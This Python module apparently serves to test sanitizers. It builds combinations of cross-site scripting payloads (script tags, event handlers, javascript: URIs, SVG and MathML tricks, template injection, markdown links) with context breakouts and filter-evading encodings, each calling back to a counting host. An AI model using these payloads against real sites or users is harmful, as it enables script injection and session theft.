"""Texts that act wherever they are taken for markup, by combination: what acts, how it breaks out, how it hides."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product
from math import gcd
from urllib.parse import quote

RUN = "top.tripped=(top.tripped||0)+1;fetch(`HOST/run`)"

ACTING = (
    "<script>RUN</script>",
    "<script src=HOST/script></script>",
    "<script type=module>import 'HOST/module'</script>",
    "<img src=x onerror=RUN>",
    "<img src=HOST/image>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a><use href=HOST/use /></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<math href='javascript:RUN'>x</math>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<object data=HOST/object></object><embed src=HOST/embed>",
    "<video autoplay onerror=RUN><source src=HOST/video></video>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<input autofocus onfocus=RUN>",
    "<style>@import 'HOST/sheet';body{background:url(HOST/ground)}</style>",
    "<link rel=stylesheet href=HOST/link><link rel=prefetch href=HOST/prefetch>",
    "<meta http-equiv=refresh content='0;url=HOST/refresh'>",
    "<base href=HOST/>",
    "<form action=HOST/form><button autofocus onfocus=RUN>x</button></form>",
    "<a href='javascript:RUN' ping=HOST/ping>x</a>",
    "<template><img src=x onerror=RUN></template><div onmouseover=RUN style='position:fixed;inset:0'>x</div>",
    "<body onload=RUN><marquee onstart=RUN>x</marquee>",
    "<dialog open onclose=RUN></dialog><audio src=HOST/audio>",
    "![x](HOST/markdown)",
    "![x](x 'y' onerror=RUN)[x](javascript:RUN)<HOST/auto>",
    "[x]: HOST/reference\n[x][x] HOST/bare",
    "{{constructor.constructor(`RUN`)()}}${RUN}",
    "javascript:RUN",
    "data:text/html,<script>RUN</script>",
)
"""RUN is set in as script, HOST as a server that counts."""

BREAKING_OUT = (
    "",
    '">',
    "'>",
    "</script>",
    "</title></textarea></style>",
    "-->",
    "<!--><!--",
    "]]></svg>",
    '"]}]</script>',
    "\\u003c/script\\u003e",
    "</template></dialog></noscript>",
    "`;",
    "' autofocus onfocus=RUN x='",
)


HIDING = (
    lambda text: text,
    lambda text: escape(text),
    lambda text: "".join(f"&#x{ord(char):x};" for char in text),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c"),
    lambda text: quote(text),
    lambda text: text.replace("<", "<\x00").replace("script", "scr\u200bipt"),
    lambda text: text.replace(" ", "\u2028").replace("<", "\n<"),
    lambda text: text.replace("<", "\uff1c") + text,
)


def payloads(count: int, host: str) -> Iterator[str]:
    """So many of all the combinations, each another text, spread evenly."""
    made = (hide(set_in(f"{out}{acting}", host)) for acting, out, hide in product(ACTING, BREAKING_OUT, HIDING))
    every = list(dict.fromkeys(made))
    step = len(every) // count or 1
    while gcd(step, len(every)) > 1:
        step += 1
    for number in range(count):
        yield every[number * step % len(every)]


def set_in(text: str, host: str) -> str:
    """A pattern with its script and server set in."""
    return text.replace("RUN", RUN).replace("HOST", host)
